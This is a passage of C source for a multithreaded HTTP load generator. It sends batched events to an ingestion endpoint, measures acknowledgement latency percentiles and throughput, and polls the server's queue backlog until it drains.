        const char *rb = memchr(p, ']', (size_t)(end - p));
        if (rb == NULL)
            return -1;
        snprintf(opt->host, sizeof opt->host, "%.*s", (int)(rb - p - 1), p + 1);
        colon = rb + 1 < end && rb[1] == ':' ? rb + 1 : NULL;
    } else {
        colon = memchr(p, ':', (size_t)(end - p));
        size_t hl = (size_t)((colon ? colon : end) - p);
        snprintf(opt->host, sizeof opt->host, "%.*s", (int)hl, p);
    }
    if (colon)
        snprintf(opt->port, sizeof opt->port, "%.*s", (int)(end - colon - 1), colon + 1);
    else
        snprintf(opt->port, sizeof opt->port, "80");
    snprintf(opt->host_header, sizeof opt->host_header, "%.*s", (int)(end - p), p);
    if (opt->host[0] == '\0' || opt->port[0] == '\0') {
        fprintf(stderr, "loadgen: --url %s: expected http://HOST:PORT\n", url);
        return -1;
    }
    return 0;
}

static int cmp_double(const void *a, const void *b)
{
    double x = *(const double *)a, y = *(const double *)b;
    return (x > y) - (x < y);
}

static double percentile(const double *v, size_t n, double q)
{
    if (n == 0)
        return 0;
    size_t i = (size_t)(q * (double)(n - 1) + 0.5);
    return v[i < n ? i : n - 1];
}

static int parse_args(int argc, char **argv, struct options *opt)
{
    double v;
    const char *url = NULL;
    int events_set = 0;
    opt->connections = 4;
    opt->batch = 500;
    opt->events = 100000;
    opt->seed = 1;
    opt->drain_timeout_s = 300;
    opt->io_timeout_s = 60;
    for (int i = 1; i < argc; i++) {
        const char *a = argv[i];
        const char *val = i + 1 < argc ? argv[i + 1] : NULL;
        if (strcmp(a, "--help") == 0 || strcmp(a, "-h") == 0) {
            usage(stdout);
            exit(0);
        } else if (strcmp(a, "--retry-429") == 0) {
            opt->retry_429 = 1;
            continue;
        } else if (strcmp(a, "--no-drain") == 0) {
            opt->no_drain = 1;
            continue;
        }
        if (strncmp(a, "--", 2) != 0 || val == NULL) {
            fprintf(stderr, "loadgen: %s: unknown argument or missing value\n", a);
            return -1;
        }
        i++;
        if (strcmp(a, "--url") == 0) {
            url = val;
        } else if (strcmp(a, "--key") == 0) {
            opt->key = val;
        } else if (strcmp(a, "--ref-prefix") == 0) {
            snprintf(opt->ref_prefix, sizeof opt->ref_prefix, "%s", val);
        } else if (strcmp(a, "--connections") == 0) {
            if (parse_num(a, val, 1, 1024, &v))
                return -1;
            opt->connections = (int)v;
        } else if (strcmp(a, "--batch") == 0) {
            if (parse_num(a, val, 1, 100000, &v))
                return -1;
            opt->batch = (int)v;
        } else if (strcmp(a, "--events") == 0) {
            if (parse_num(a, val, 0, 1e12, &v))
                return -1;
            opt->events = (int64_t)v;
            events_set = 1;
        } else if (strcmp(a, "--duration") == 0) {
            if (parse_num(a, val, 0.001, 1e7, &v))
                return -1;
            opt->duration_s = v;
        } else if (strcmp(a, "--seed") == 0) {
            if (parse_num(a, val, 0, 1e15, &v))
                return -1;
            opt->seed = (uint64_t)v;
        } else if (strcmp(a, "--drain-timeout") == 0) {
            if (parse_num(a, val, 0, 1e7, &opt->drain_timeout_s))
                return -1;
        } else if (strcmp(a, "--timeout") == 0) {
            if (parse_num(a, val, 0.001, 1e6, &opt->io_timeout_s))
                return -1;
        } else {
            fprintf(stderr, "loadgen: %s: unknown option\n", a);
            return -1;
        }
    }
    if (url == NULL || opt->key == NULL) {
        fprintf(stderr, "loadgen: --url and --key are required\n");
        return -1;
    }
    if (opt->duration_s > 0 && !events_set)
        opt->events = 0; /* --duration alone: send until the time is up */
    if (opt->events == 0 && opt->duration_s <= 0) {
        fprintf(stderr, "loadgen: --events 0 needs --duration\n");
        return -1;
    }
    if (opt->ref_prefix[0] == '\0')
        snprintf(opt->ref_prefix, sizeof opt->ref_prefix, "lg-%" PRIu64 "-%lld-%d", opt->seed,
                 (long long)time(NULL), (int)getpid());
    return parse_url(url, opt);
}

/* What a run measured. */
struct summary {
    struct thread_result tot;
    double load_s; /* first request sent .. last 200 */
    double *lat;   /* sorted per-request latencies (ms) */
    size_t nlat;
    struct queue_stats qs0; /* before the load */
    struct queue_stats qs;  /* at the end of the drain */
    int drained, drain_failed;
    double e2e_s; /* first request sent .. backlog drained */
};

static void merge_results(struct thread_arg *ta, int n, double start_s, struct summary *sm)
{
    struct thread_result *tot = &sm->tot;
    double last_ack = start_s;
    for (int i = 0; i < n; i++) {
        const struct thread_result *r = &ta[i].res;
        tot->requests += r->requests;
        tot->requests_ok += r->requests_ok;
        tot->events_sent += r->events_sent;
        tot->events_accepted += r->events_accepted;
        tot->events_rejected += r->events_rejected;
        tot->throttled += r->throttled;
        tot->reconnects += r->reconnects;
        tot->failures += r->failures;
        tot->bytes_sent += r->bytes_sent;
        tot->nlat += r->nlat;
        if (r->last_done_s > last_ack)
            last_ack = r->last_done_s;
    }
    sm->load_s = last_ack - start_s;
    sm->lat = malloc((tot->nlat ? tot->nlat : 1) * sizeof *sm->lat);
    for (int i = 0; i < n; i++) {
        if (sm->lat && ta[i].res.nlat)
            memcpy(sm->lat + sm->nlat, ta[i].res.lat_ms, ta[i].res.nlat * sizeof *sm->lat);
        sm->nlat += ta[i].res.nlat;
        free(ta[i].res.lat_ms);
    }
    if (sm->lat)
        qsort(sm->lat, sm->nlat, sizeof *sm->lat, cmp_double);
    else
        sm->nlat = 0;
}

/* Runs the load threads to completion and merges their results into sm. */
static void run_load(struct shared *sh, struct summary *sm)
{
    const struct options *opt = sh->opt;
    struct thread_arg *ta = calloc((size_t)opt->connections, sizeof *ta);
    if (ta == NULL) {
        record_error(sh, "out of memory");
        sm->tot.failures++;
        return;
    }
    sh->start_s = mono_s();
    sh->deadline_s = opt->duration_s > 0 ? sh->start_s + opt->duration_s : 0;
    int started = 0;
    for (int i = 0; i < opt->connections; i++) {
        ta[i].sh = sh;
        ta[i].index = i;
        if (pthread_create(&ta[i].tid, NULL, load_thread, &ta[i]) != 0) {
            record_error(sh, "pthread_create failed");
            sm->tot.failures++;
            atomic_store(&sh->stop, 1);
            break;
        }
        started++;
    }
    for (int i = 0; i < started; i++)
        pthread_join(ta[i].tid, NULL);
    merge_results(ta, started, sh->start_s, sm);
    free(ta);
}

/* Polls the backlog until it is empty or the drain deadline passes. Polling every 50 ms keeps
 * the end-to-end figure within 50 ms of the truth without loading the server. */
static void wait_drained(struct shared *sh, struct summary *sm)
{
    const struct options *opt = sh->opt;
    char err[512];
    double deadline = mono_s() + opt->drain_timeout_s;
    for (;;) {
        if (fetch_queue_stats(opt, &sm->qs, err, sizeof err) != 0) {
            record_error(sh, "%s", err);
            sm->drain_failed = 1;
            break;
        }
        sm->e2e_s = mono_s() - sh->start_s;
        if (sm->qs.size == 0) {
            sm->drained = 1;
            break;
        }
        if (mono_s() >= deadline)
            break;
        struct timespec ts = {0, 50 * 1000000L};
        nanosleep(&ts, NULL);
    }
}

static double per_s(double n, double s)
{
    return s > 0 ? n / s : 0.0;
}

static void print_report(const struct options *opt, const struct summary *sm, int drain_ran)
{
    const struct thread_result *t = &sm->tot;
    printf("url: http://%s\n", opt->host_header);
    printf("connections: %d\nbatch: %d\n", opt->connections, opt->batch);
    printf("reference_prefix: %s\n", opt->ref_prefix);
    printf("requests: %" PRId64 "\n", t->requests);
    printf("requests_ok: %" PRId64 "\n", t->requests_ok);
    printf("requests_throttled: %" PRId64 "\n", t->throttled);
    printf("reconnects: %" PRId64 "\n", t->reconnects);
    printf("events_sent: %" PRId64 "\n", t->events_sent);
    printf("events_accepted: %" PRId64 "\n", t->events_accepted);
    printf("events_rejected: %" PRId64 "\n", t->events_rejected);
    printf("bytes_sent: %" PRId64 "\n", t->bytes_sent);
    printf("avg_event_bytes: %.0f\n", per_s((double)t->bytes_sent, (double)t->events_sent));
    printf("load_seconds: %.3f\n", sm->load_s);
    printf("accepted_per_s: %.0f\n", per_s((double)t->events_accepted, sm->load_s));
    printf("requests_per_s: %.1f\n", per_s((double)t->requests_ok, sm->load_s));
    printf("ack_latency_p50_ms: %.2f\n", percentile(sm->lat, sm->nlat, 0.50));
    printf("ack_latency_p99_ms: %.2f\n", percentile(sm->lat, sm->nlat, 0.99));
    printf("ack_latency_max_ms: %.2f\n", sm->nlat ? sm->lat[sm->nlat - 1] : 0.0);
    if (!drain_ran)
        return;
    printf("drained: %s\n", sm->drained ? "yes" : "no");
    printf("backlog_final: %" PRId64 "\n", sm->qs.size);
    printf("end_to_end_seconds: %.3f\n", sm->e2e_s);
    if (sm->qs.stored >= 0 && sm->qs0.stored >= 0) {
        int64_t d = sm->qs.stored - sm->qs0.stored;
        printf("stored_delta: %" PRId64 "\n", d);
        printf("stored_per_s: %.0f\n", per_s((double)d, sm->e2e_s));
    } else {
        printf("stored_per_s: %.0f\n", per_s((double)t->events_accepted, sm->e2e_s));
    }
}

int main(int argc, char **argv)
{
    static struct options opt;
    static struct shared sh;
    static struct summary sm;
    if (parse_args(argc, argv, &opt) != 0) {
        usage(stderr);
        return 2;
    }
    signal(SIGPIPE, SIG_IGN);
    sh.opt = &opt;
    pthread_mutex_init(&sh.err_lock, NULL);

    char err[512];
    sm.qs0.stored = sm.qs.stored = -1;
    if (fetch_queue_stats(&opt, &sm.qs0, err, sizeof err) != 0) {
        fprintf(stderr, "loadgen: %s\n", err);
        printf("status: failed\nerror: %s\n", err);
        return 1;
    }
    run_load(&sh, &sm);
    int drain_ran = !opt.no_drain && sm.tot.failures == 0;
    if (drain_ran)
        wait_drained(&sh, &sm);
    print_report(&opt, &sm, drain_ran);

    int rc = 0;
    if (sm.tot.failures > 0 || sm.drain_failed)
        rc = 1;
    else if (drain_ran && !sm.drained)
        rc = 3;
    printf("status: %s\n", rc == 0 ? "ok" : rc == 3 ? "drain-timeout" : "failed");
    if (sh.first_error[0])
        printf("error: %s\n", sh.first_error);
    free(sm.lat);
    pthread_mutex_destroy(&sh.err_lock);
    return rc;
}
